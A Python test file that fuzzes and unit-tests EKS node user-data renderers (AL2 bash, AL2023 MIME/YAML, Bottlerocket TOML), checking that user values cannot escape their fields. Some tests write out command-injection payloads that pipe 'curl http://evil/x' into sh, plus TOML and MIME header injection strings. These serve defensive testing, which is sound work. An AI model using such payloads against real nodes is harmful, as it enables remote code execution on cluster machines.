"""No value escapes its field in user data, whatever text it holds.

Every user-controlled input (cluster name, endpoint and CA bundle, kubelet maps and
values, cluster DNS, node labels and taints, the class's own userData) is drawn from
arbitrary text and from text dense in the characters each format treats specially. The
rendered document is then read back with the reader that format has on a node:

- AL2: ``bash -n`` parses the script, and the bootstrap line run by bash with
  ``bootstrap.sh`` swapped for ``printf '%s\\0'`` (builtins only: no PATH, a scratch
  directory) yields exactly the intended argv; the one ``--kubelet-extra-args`` word
  splits (shlex, as systemd splits it) into exactly the intended flags;
- AL2023: the `email` parser finds exactly the intended MIME parts, Karpenter's last, and
  its NodeConfig YAML loads back to the intended document;
- Bottlerocket: `tomllib` reads every key and value back as written.

A value may also be refused (`ValueError`, reported by the launcher as invalid user
data), but only when it holds a character its place cannot carry.
"""

from __future__ import annotations

import base64
import email
import email.message
import ipaddress
import shlex
import shutil
import subprocess
import tempfile
import tomllib
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st

from karpy.apis.core import Taint
from karpy.cloud.aws.launch.cluster import ClusterInfo
from karpy.cloud.aws.launch.userdata import BootstrapOptions
from karpy.cloud.aws.launch.userdata import toml as toml_writer
from karpy.cloud.aws.launch.userdata.al2 import render_al2
from karpy.cloud.aws.launch.userdata.al2023 import GENERATED_HEADER, node_config, render_al2023
from karpy.cloud.aws.launch.userdata.bottlerocket import render_bottlerocket
from karpy.cloud.aws.launch.userdata.mime import Part, is_mime, parse_archive, serialize_archive
from karpy.cloud.errors import NodeClassNotReady
from tests.aws.launch.conftest import cluster_info

BASH = shutil.which("bash")
PAYLOAD = "1m'; curl http://evil/x|sh; echo '"
EXAMPLES = settings(
    deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)

# Pieces that quoting, MIME framing and TOML syntax care about.
TOKENS = [*"'\"\\$`;|&<>(){}[]#=,:%* \t\n\r!~-_./aZ09é", "--//", "--//--\n", "\x7f", "\x00"]
TEXT = st.one_of(st.text(max_size=16), st.lists(st.sampled_from(TOKENS), max_size=10).map("".join))
IP = st.sampled_from(["10.100.0.10", "172.20.0.10", "fd00:10:100::a"])

# Characters refused somewhere in a kubelet flag (control characters and ``'`` anywhere,
# the list separators inside entries); outside flags only NUL is refused. Half of the
# examples draw flag inputs without them, so that most of those render and are checked.
FLAG_REFUSED = {chr(c) for c in range(0x20)} | {"\x7f", "'", ",", "=", ":", "<"}
FLAG_TEXT = st.one_of(
    st.text(st.characters(exclude_characters=FLAG_REFUSED, codec="utf-8"), max_size=16),
    st.lists(st.sampled_from([t for t in TOKENS if not FLAG_REFUSED & set(t)]), max_size=10).map(
        "".join
    ),
)
MAP_FLAGS = {
    "systemReserved": ("--system-reserved", "="),
    "kubeReserved": ("--kube-reserved", "="),
    "evictionHard": ("--eviction-hard", "<"),
    "evictionSoft": ("--eviction-soft", "<"),
    "evictionSoftGracePeriod": ("--eviction-soft-grace-period", "="),
}


@st.composite
def bootstrap_options(
    draw: st.DrawFn, *, ca: st.SearchStrategy[str] | None = None
) -> BootstrapOptions:
    flag_text = draw(st.sampled_from([FLAG_TEXT, TEXT]))
    text_map = st.dictionaries(flag_text, flag_text, max_size=3)
    outer = TEXT if flag_text is TEXT else TEXT.map(lambda t: t.replace("\x00", ""))
    kubelet: dict[str, Any] = {key: draw(text_map) for key in MAP_FLAGS if draw(st.booleans())}
    if draw(st.booleans()):
        kubelet["clusterDNS"] = [draw(IP if flag_text is FLAG_TEXT else st.one_of(IP, TEXT))]
    if draw(st.booleans()):
        kubelet["maxPods"] = draw(st.integers(0, 500))
    if draw(st.booleans()):
        kubelet["evictionMaxPodGracePeriod"] = draw(st.integers(0, 600))
    taints = draw(
        st.lists(st.builds(Taint, key=flag_text, effect=flag_text, value=flag_text), max_size=2)
    )
    return BootstrapOptions(
        cluster=ClusterInfo(
            name=draw(outer),
            endpoint=draw(outer),
            ca_bundle=draw(outer if ca is None else ca),
            cidr="172.20.0.0/16",
        ),
        kubelet=kubelet,
        labels=draw(text_map),
        taints=tuple(taints),
    )


def flag_inputs(opts: BootstrapOptions) -> list[str]:
    """Every text that ends up inside the kubelet flags."""
    texts = [t for taint in opts.taints for t in (taint.key, taint.value, taint.effect)]
    texts += [t for pair in opts.labels.items() for t in pair]
    for key in MAP_FLAGS:
        texts += [t for pair in opts.kubelet.get(key, {}).items() for t in pair]
    return texts


def refusal_is_justified(opts: BootstrapOptions) -> bool:
    cluster = opts.cluster
    if any("\x00" in t for t in (cluster.name, cluster.endpoint, cluster.ca_bundle)):
        return True
    dns = opts.cluster_dns
    if dns and not _is_ip(dns[0]):
        return True
    return any(FLAG_REFUSED & set(text) for text in flag_inputs(opts))


def _is_ip(text: str) -> bool:
    try:
        ipaddress.ip_address(text)
    except ValueError:
        return False
    return True


def _taint(taint: Taint) -> str:
    head = f"{taint.key}={taint.value}" if taint.value else taint.key
    return f"{head}:{taint.effect}"


def intended_flags(opts: BootstrapOptions) -> list[str]:
    """The kubelet flags, unquoted, as the kubelet should receive them."""
    kubelet = opts.kubelet
    flags = []
    if opts.labels:
        flags.append(
            "--node-labels=" + ",".join(f"{k}={opts.labels[k]}" for k in sorted(opts.labels))
        )
    flags.append("--register-with-taints=" + ",".join(_taint(t) for t in opts.taints))
    if "maxPods" in kubelet:
        flags.append(f"--max-pods={kubelet['maxPods']}")
    for key, (flag, separator) in MAP_FLAGS.items():
        values = kubelet.get(key)
        if values:
            flags.append(
                f"{flag}=" + ",".join(f"{k}{separator}{values[k]}" for k in sorted(values))
            )
    if "evictionMaxPodGracePeriod" in kubelet:
        flags.append(f"--eviction-max-pod-grace-period={kubelet['evictionMaxPodGracePeriod']}")
    return flags


def intended_argv(opts: BootstrapOptions) -> list[str]:
    cluster = opts.cluster
    argv = [cluster.name, "--apiserver-endpoint", cluster.endpoint]
    if cluster.ca_bundle:
        argv += ["--b64-cluster-ca", cluster.ca_bundle]
    dns = opts.cluster_dns
    if dns and ipaddress.ip_address(dns[0]).version == 6:
        argv += ["--ip-family", "ipv6"]
    if dns:
        argv += ["--dns-cluster-ip", dns[0]]
    if "maxPods" in opts.kubelet:
        argv += ["--use-max-pods", "false"]
    return [*argv, "--kubelet-extra-args"]


def parts_of(document: str) -> list[tuple[str, str]]:
    """(content type, content) of each part, as the `email` parser reads them."""
    message = email.message_from_string(document)
    assert message.is_multipart()
    parts = []
    for part in message.get_payload():
        assert isinstance(part, email.message.Message)
        payload = part.get_payload()
        assert isinstance(payload, str)
        parts.append((part.get_content_type(), payload))
    return parts


SCRIPT_HEAD = (
    "#!/bin/bash -xe\n"
    "exec > >(tee /var/log/user-data.log|logger -t user-data -s 2>/dev/console) 2>&1\n"
    "/etc/eks/bootstrap.sh "
)


def bootstrap_argv(script: str) -> list[str]:
    """The arguments bash would pass to bootstrap.sh: the script must parse, and its
    bootstrap line is run with ``printf '%s\\0'`` in bootstrap.sh's place."""
    assert BASH is not None
    parsed = subprocess.run([BASH, "-n"], input=script.encode(), capture_output=True, check=False)
    assert parsed.returncode == 0, parsed.stderr
    assert script.startswith(SCRIPT_HEAD)
    command = "printf '%s\\0' " + script[len(SCRIPT_HEAD) :]
    with tempfile.TemporaryDirectory() as scratch:
        ran = subprocess.run(
            [BASH, "--norc", "--noprofile", "-c", command],
            env={"PATH": "/nonexistent"},
            cwd=scratch,
            capture_output=True,
            timeout=20,
            check=False,
        )
    assert ran.returncode == 0 and not ran.stderr, ran.stderr
    return ran.stdout.decode().split("\0")[:-1]


# --- AL2 -----------------------------------------------------------------------------------


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@settings(EXAMPLES, max_examples=100)
@given(opts=bootstrap_options())
def test_al2_every_value_stays_in_its_argument_and_every_flag_in_its_word(
    opts: BootstrapOptions,
) -> None:
    try:
        document = render_al2(opts)
    except ValueError:
        event("refused")
        assert refusal_is_justified(opts)
        return
    event("rendered")
    ((_, script),) = parts_of(document)
    argv = bootstrap_argv(script)
    assert argv[:-1] == intended_argv(opts)
    assert shlex.split(argv[-1]) == intended_flags(opts)


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
def test_al2_the_reproduced_grace_period_payload_is_refused_not_rendered() -> None:
    opts = BootstrapOptions(
        cluster=cluster_info(),
        kubelet={
            "evictionSoft": {"memory.available": "500Mi"},
            "evictionSoftGracePeriod": {"memory.available": PAYLOAD},
        },
    )
    with pytest.raises(ValueError, match='contains "\'"'):
        render_al2(opts)


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
def test_al2_a_double_quoted_payload_stays_inside_its_flag() -> None:
    payload = '1m"; curl http://evil/x|sh; echo "$(id)`id`'
    opts = BootstrapOptions(
        cluster=cluster_info(),
        kubelet={
            "evictionSoft": {"memory.available": "500Mi"},
            "evictionSoftGracePeriod": {"memory.available": payload},
        },
    )
    ((_, script),) = parts_of(render_al2(opts))
    argv = bootstrap_argv(script)
    assert argv[-2] == "--kubelet-extra-args"
    assert shlex.split(argv[-1])[-1] == f"--eviction-soft-grace-period=memory.available={payload}"


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
def test_al2_custom_user_data_holding_the_boundary_keeps_the_bootstrap_part() -> None:
    custom = "#!/bin/bash\necho before\n--//--\necho after\n"
    opts = BootstrapOptions(cluster=cluster_info(), custom_user_data=custom)
    (_, first), (_, bootstrap) = parts_of(render_al2(opts))
    assert first == custom
    assert bootstrap_argv(bootstrap)[0] == "test-cluster"


# --- AL2023 --------------------------------------------------------------------------------

B64 = st.binary(max_size=12).map(lambda b: base64.b64encode(b).decode())


@settings(EXAMPLES, max_examples=50)
@given(opts=bootstrap_options(ca=st.one_of(B64, TEXT)), custom=st.one_of(st.none(), TEXT))
def test_al2023_parts_are_exactly_the_intended_ones(
    opts: BootstrapOptions, custom: str | None
) -> None:
    assume(custom is None or not is_mime(custom))
    opts = BootstrapOptions(
        cluster=opts.cluster,
        kubelet=opts.kubelet,
        labels=opts.labels,
        taints=opts.taints,
        custom_user_data=custom,
    )
    try:
        document = render_al2023(opts)
    except NodeClassNotReady:  # a CA bundle that is not base64: refused before writing
        with pytest.raises(ValueError):
            base64.b64decode(opts.cluster.ca_bundle, validate=True)
        return
    except ValueError:
        event("refused")
        assert refusal_is_justified(opts)
        return
    event("rendered")
    parts = parts_of(document)
    assert len(parts) == (2 if custom else 1)
    if custom:
        # The line end before a delimiter belongs to the delimiter (a trailing CR goes).
        assert parts[0][1] in (custom, custom.removesuffix("\r"))
    content_type, text = parts[-1]
    assert content_type == "application/node.eks.aws"
    assert text.startswith(GENERATED_HEADER)
    config = yaml.safe_load(text)
    assert config == node_config(opts)
    flags = config["spec"]["kubelet"]["flags"]
    words = [w for flag in flags for w in shlex.split(flag)]
    taint_flag = "--register-with-taints=" + ",".join(_taint(t) for t in opts.taints)
    label_flag = [f for f in intended_flags(opts) if f.startswith("--node-labels=")]
    assert words == [*label_flag, taint_flag]


def test_al2023_user_data_holding_the_boundary_stays_in_its_part() -> None:
    custom = "#!/bin/bash\necho one\n--//\nContent-Type: text/x-shellscript\n\necho two\n--//--\n"
    opts = BootstrapOptions(cluster=cluster_info(), custom_user_data=custom)
    (_, first), (content_type, _) = parts_of(render_al2023(opts))
    assert first == custom
    assert content_type == "application/node.eks.aws"


def test_mime_header_values_are_unfolded_and_may_not_start_a_header() -> None:
    folded = Part("text/x-shellscript", "echo hi\n", (("X-Note", "one\n two"),))
    parsed = parse_archive(serialize_archive([folded]))
    assert parsed[0].other_headers == (("X-Note", "one two"),)
    injected = Part("text/x-shellscript", "echo hi\n", (("X-Note", "one\nContent-Type: x"),))
    with pytest.raises(ValueError, match="line break"):
        serialize_archive([injected])


# --- Bottlerocket --------------------------------------------------------------------------

USER_SETTINGS = st.dictionaries(
    TEXT.filter(lambda k: k != "kubernetes"), st.dictionaries(TEXT, TEXT, max_size=2), max_size=2
)


@settings(EXAMPLES, max_examples=50)
@given(opts=bootstrap_options(), user=USER_SETTINGS)
def test_bottlerocket_every_key_and_value_reads_back_as_written(
    opts: BootstrapOptions, user: dict[str, dict[str, str]]
) -> None:
    opts = BootstrapOptions(
        cluster=opts.cluster,
        kubelet=opts.kubelet,
        labels=opts.labels,
        taints=opts.taints,
        custom_user_data=toml_writer.dumps({"settings": user}) if user else None,
    )
    document = tomllib.loads(render_bottlerocket(opts))
    assert set(document) == {"settings"}
    settings_ = document["settings"]
    k8s = settings_.pop("kubernetes")
    assert settings_ == user
    cluster = opts.cluster
    expected: dict[str, Any] = {"cluster-name": cluster.name, "api-server": cluster.endpoint}
    if cluster.ca_bundle:
        expected["cluster-certificate"] = cluster.ca_bundle
    if opts.labels:
        expected["node-labels"] = dict(opts.labels)
    taints: dict[str, list[str]] = {}
    for taint in opts.taints:
        taints.setdefault(taint.key, []).append(f"{taint.value}:{taint.effect}")
    if taints:
        expected["node-taints"] = taints
    kubelet = opts.kubelet
    if "maxPods" in kubelet:
        expected["max-pods"] = kubelet["maxPods"]
    if opts.cluster_dns:
        expected["cluster-dns-ip"] = opts.cluster_dns[0]
    names = {
        "systemReserved": "system-reserved",
        "kubeReserved": "kube-reserved",
        "evictionHard": "eviction-hard",
        "evictionSoft": "eviction-soft",
        "evictionSoftGracePeriod": "eviction-soft-grace-period",
    }
    for key, name in names.items():
        if kubelet.get(key):
            expected[name] = dict(kubelet[key])
    if "evictionMaxPodGracePeriod" in kubelet:
        expected["eviction-max-pod-grace-period"] = kubelet["evictionMaxPodGracePeriod"]
    assert k8s == expected


def test_bottlerocket_keys_and_values_with_line_breaks_and_del_stay_strings() -> None:
    labels = {"a\n[settings.evil]": "x\x7f'\n", "b\\": '"'}
    opts = BootstrapOptions(cluster=cluster_info(), labels=labels)
    document = tomllib.loads(render_bottlerocket(opts))
    assert document["settings"]["kubernetes"]["node-labels"] == labels
    assert set(document["settings"]) == {"kubernetes"}
